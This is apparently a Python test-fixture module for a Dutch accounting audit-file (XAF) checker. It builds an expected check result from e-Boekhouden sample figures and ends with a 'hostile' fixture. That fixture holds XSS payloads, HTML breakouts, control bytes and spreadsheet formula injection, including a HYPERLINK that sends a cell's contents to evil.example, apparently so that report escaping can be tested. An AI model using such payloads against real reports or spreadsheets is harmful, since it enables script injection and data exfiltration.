"""A realistic check result for report tests, built from the e-Boekhouden reference sample's real figures.

The figures (trial balance, journals, periods) are aggregated here from the sample as read by
``read_xaf``; the findings are those EXPECTED.md lists for the sample. Nothing of the sample is copied
into the repository. Used until (and beside) the real check engine's result.
"""

from __future__ import annotations

from functools import cache
from typing import Any

import pandas as pd
from conftest import shared_sample

from koppel.money import format_cents
from koppel.xaf import read_xaf

EBOEKHOUDEN = "mikel-dataloader__e-boekhouden_xaf3.2_2019.xaf.xml"


def _side_sums(frame: pd.DataFrame, key: str) -> pd.DataFrame:
    amount = frame["amount"]
    return pd.DataFrame(
        {
            "debit": amount.where(amount > 0, 0).groupby(frame[key]).sum(),
            "credit": (-amount.where(amount < 0, 0)).groupby(frame[key]).sum(),
            "lines": amount.groupby(frame[key]).size(),
        }
    )


def _place(line: int, path: str, **values: str) -> dict[str, Any]:
    return {"line": line, "path": path, "values": values}


@cache
def eboekhouden_figures() -> dict[str, Any]:
    adm = read_xaf(shared_sample(EBOEKHOUDEN))
    lines = adm.lines.frame()
    names = dict(zip(adm.accounts["account_id"], adm.accounts["name"], strict=True))
    opening = adm.opening_balance.groupby("account_id")["amount"].sum()
    moves = _side_sums(lines, "account_id")
    trial = []
    for account in sorted(set(moves.index) | set(opening.index)):
        ob = int(opening.get(account, 0))
        debit = int(moves["debit"].get(account, 0))
        credit = int(moves["credit"].get(account, 0))
        trial.append(
            {
                "account": account,
                "name": names.get(account) or "",
                "opening": format_cents(ob),
                "debit": format_cents(debit),
                "credit": format_cents(credit),
                "closing": format_cents(ob + debit - credit),
            }
        )
    per_journal = _side_sums(lines, "journal_id")
    entries = lines.groupby("journal_id")["entry_nr"].nunique()
    journals = []
    for row in adm.journals.itertuples():
        jid = row.journal_id
        present = jid in per_journal.index
        journals.append(
            {
                "journal": jid,
                "description": row.description or "",
                "kind": row.kind or "",
                "transactions": int(entries.get(jid, 0)),
                "lines": int(per_journal["lines"][jid]) if present else 0,
                "debit": format_cents(int(per_journal["debit"][jid]) if present else 0),
                "credit": format_cents(int(per_journal["credit"][jid]) if present else 0),
            }
        )
    per_period = _side_sums(lines, "period")
    periods = [
        {
            "period": period,
            "debit": format_cents(int(row.debit)),
            "credit": format_cents(int(row.credit)),
            "lines": int(row.lines),
        }
        for period, row in sorted(per_period.iterrows(), key=lambda item: int(item[0]))
    ]
    h = adm.header
    header = {
        "company_name": h.company_name,
        "fiscal_year": h.fiscal_year,
        "start_date": h.start_date,
        "end_date": h.end_date,
        "currency": h.currency,
        "software": h.software,
        "software_version": h.software_version,
        "kvk": h.kvk,
        "vat_number": h.vat_number,
        "date_created": h.date_created,
    }
    return {"trial_balance": trial, "journals": journals, "periods": periods, "header": header}


def eboekhouden_result() -> dict[str, Any]:
    """The result dict the check engine is expected to give for the e-Boekhouden sample (EXPECTED.md)."""
    figures = eboekhouden_figures()
    findings = [
        {
            "code": "XAF-T04",
            "severity": "error",
            "message": "totalDebit in de kop van transactions (686571.44) is niet gelijk aan de som van de "
            "debetregels (517416.49)",
            "line": 3100,
            "path": "/auditfile/company/transactions/totalDebit",
            "count": 1,
            "hint": "e-Boekhouden telt de openingsbalans mee in totalDebit; vraag een nieuw bestand of negeer bewust",
            "places": [
                _place(3100, "/auditfile/company/transactions/totalDebit", expected="517416.49", found="686571.44")
            ],
        },
        {
            "code": "XAF-T05",
            "severity": "error",
            "message": "totalCredit (686571.44) is niet gelijk aan de som van de creditregels (517416.49)",
            "line": 3101,
            "path": "/auditfile/company/transactions/totalCredit",
            "count": 1,
            "hint": "zie XAF-T04",
            "places": [
                _place(3101, "/auditfile/company/transactions/totalCredit", expected="517416.49", found="686571.44")
            ],
        },
        {
            "code": "XAF-T08",
            "severity": "error",
            "message": "linesCount 5 is niet gelijk aan het aantal boekingsregels (414)",
            "line": 3099,
            "path": "/auditfile/company/transactions/linesCount",
            "count": 1,
            "hint": "e-Boekhouden schrijft het aantal dagboeken in linesCount",
            "places": [_place(3099, "/auditfile/company/transactions/linesCount", expected="414", found="5")],
        },
        {
            "code": "XAF-D05",
            "severity": "warning",
            "message": "boekjaar 2019-01-01..2020-01-01: de einddatum is geen laatste dag van een maand",
            "line": 8,
            "path": "/auditfile/header/endDate",
            "count": 1,
            "hint": "",
            "places": [_place(8, "/auditfile/header/endDate", start="2019-01-01", end="2020-01-01")],
        },
        {
            "code": "XAF-D06",
            "severity": "warning",
            "message": "periode valt niet binnen het boekjaar",
            "line": 2990,
            "path": "/auditfile/company/periods/period",
            "count": 11,
            "hint": "perioden 2–12 eindigen twaalf maanden na hun begin",
            "places": [
                _place(2990 + 6 * n, "/auditfile/company/periods/period", period=str(n), end=f"2020-{n:02d}-28")
                for n in range(2, 7)
            ],
        },
        {
            "code": "XAF-F03",
            "severity": "info",
            "message": "geen XML-declaratie; UTF-8 aangenomen",
            "line": 1,
            "path": "/",
            "count": 1,
            "hint": "",
            "places": [],
        },
        {
            "code": "XAF-V02",
            "severity": "info",
            "message": "negatief bedrag in memoriaal",
            "line": 5310,
            "path": "/auditfile/company/transactions/journal/transaction/trLine/amnt",
            "count": 12,
            "hint": "",
            "places": [_place(5310, "…/trLine/amnt", journal="MEMO", transaction="343", amount="-120.00")],
        },
        {
            "code": "XAF-V03",
            "severity": "info",
            "message": "bedrag niet met precies twee decimalen geschreven",
            "line": 3125,
            "path": "/auditfile/company/transactions/journal/transaction/trLine/amnt",
            "count": 230,
            "hint": "e-Boekhouden schrijft 10841.6 en 8960",
            "places": [_place(3125, "…/trLine/amnt", found="10841.6"), _place(3140, "…/trLine/amnt", found="8960")],
        },
    ]
    return {
        "file": EBOEKHOUDEN,
        "version": "3.2",
        "software": "e-Boekhouden.nl 3.0",
        "encoding": "UTF-8",
        "verdict": "errors",
        "header": figures["header"],
        "summary": {"error": 3, "warning": 12, "info": 243},
        "findings": findings,
        "trial_balance": figures["trial_balance"],
        "journals": figures["journals"],
        "periods": figures["periods"],
        "counts": {
            "accounts": 50,
            "relations": 6,
            "vat_codes": 20,
            "periods": 12,
            "journals": 5,
            "transactions": 165,
            "lines": 414,
            "opening_balance_lines": 8,
        },
        "totals": {
            "debit": "517416.49",
            "credit": "517416.49",
            "opening_debit": "169154.95",
            "opening_credit": "169154.95",
        },
    }


HOSTILE = '<script>alert(1)</script>"onmouseover="x'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def hostile_result() -> dict[str, Any]:
    """A result whose every text comes from a malicious file: markup, quotes, formulas, control bytes."""
    return {
        "file": f"{HOSTILE}.xaf",
        "version": "3.2",
        "software": FORMULA,
        "verdict": "warnings",
        "header": {"company_name": HOSTILE, "currency": "EUR", "kvk": "+31 20 1234567"},
        "summary": {"error": 0, "warning": 1, "info": 0},
        "findings": [
            {
                "code": "XAF-D01",
                "severity": "warning",
                "message": FORMULA,
                "line": 7,
                "path": "</td></tr></table><img src=x onerror=alert(2)>",
                "count": 1,
                "hint": "@SUM(1+1)\x07",
                "places": [{"line": 7, "path": "/a", "values": {"<b>k</b>": HOSTILE}}],
            }
        ],
        "trial_balance": [
            {
                "account": "=1+1",
                "name": "-2+3",
                "opening": "0.00",
                "debit": "10.00",
                "credit": "0.00",
                "closing": "10.00",
            },
            {
                "account": "0200",
                "name": "\tTab",
                "opening": "-10.00",
                "debit": "0.00",
                "credit": "0.00",
                "closing": "-10.00",
            },
        ],
        "journals": [
            {
                "journal": "@J",
                "description": HOSTILE,
                "kind": "M",
                "transactions": 1,
                "lines": 2,
                "debit": "10.00",
                "credit": "10.00",
            }
        ],
        "periods": [{"period": HOSTILE, "debit": "10.00", "credit": "10.00", "lines": 2}],
    }
